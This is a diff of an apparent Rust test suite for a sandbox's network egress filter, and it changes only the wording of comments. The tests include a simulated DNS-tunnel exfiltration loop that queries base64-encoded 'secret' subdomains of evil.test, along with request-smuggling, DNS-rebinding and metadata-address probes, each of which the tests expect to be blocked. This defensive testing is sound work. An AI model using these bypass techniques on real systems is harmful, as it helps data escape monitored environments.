@@ -1,4 +1,4 @@
-//! Names, TLS and HTTP: what passes, and every known way round.
+//! Names, TLS and HTTP: what passes, and every known way around.
 
 use std::time::Duration;
 
@@ -35,7 +35,7 @@ fn names_are_answered_or_denied_without_a_question_upstream() {
     {
         assert_eq!(sandbox.look_up(name), (wire::NXDOMAIN, None), "{name}");
     }
-    // A tunnel in denied names, and the same by another resolver: no packet leaves.
+    // A tunnel through denied names, and the same by another resolver: no packet leaves.
     for n in 0..200 {
         assert_eq!(sandbox.look_up(&format!("c2VjcmV0{n}.evil.test")).0, wire::NXDOMAIN);
     }
@@ -158,7 +158,7 @@ fn a_second_request_never_passes() {
         assert!(!hit.contains("evil.test"), "a second request passed: {hit}");
         assert!(hit.contains("Host: good.test\r\n"));
     }
-    // After the server switched, the connection is a tunnel to the allowed host, and not before.
+    // After the server switched protocols, the connection is a tunnel to the allowed host, but not before.
     let ws = b"GET /ws HTTP/1.1\r\nHost: good.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n";
     let talk = sandbox.parts(address, WEB, &[ws, b"ping"], Duration::from_millis(50), Duration::from_millis(700));
     assert!(talk.text().starts_with("HTTP/1.1 101") && talk.text().ends_with("ping"), "{talk:?}");
@@ -193,7 +193,7 @@ fn resolved_addresses_are_checked() {
     assert!(sandbox.call("gone.test", WEB, &get("gone.test")).text().starts_with("HTTP/1.1 502"));
     let entry = lab.router.logged("rebinding", |entry| entry.host == "rebind.test");
     assert_eq!((entry.verdict, entry.ip), (Verdict::Denied, LAN.parse().ok()));
-    // An operator's range, added while everything runs.
+    // A range of the operator, added while everything runs.
     let policy = Policy { private: vec![format!("{GOOD}/32").parse().unwrap()], ..Policy::default() };
     lab.router.order(&protocol::router::ToRouter::Policy { generation: 2, policy });
     lab.router.answer();
@@ -277,7 +277,7 @@ fn direct_addresses_other_protocols_and_neighbours_are_refused_at_once() {
     let targets = [GOOD, EVIL, LAN, METADATA, "198.51.100.2", "10.90.240.2", "10.90.240.17", "10.90.240.18", "1.1.1.1"];
     for target in targets {
         for port in [WEB, TLS, 53, ECHO, 15001, 15053] {
-            // The gateway of any subnet answers for names: that is what it is there for.
+            // The gateway of any subnet answers queries for names, as intended.
             if port == 53 && target.starts_with("10.90.240.") {
                 continue;
             }
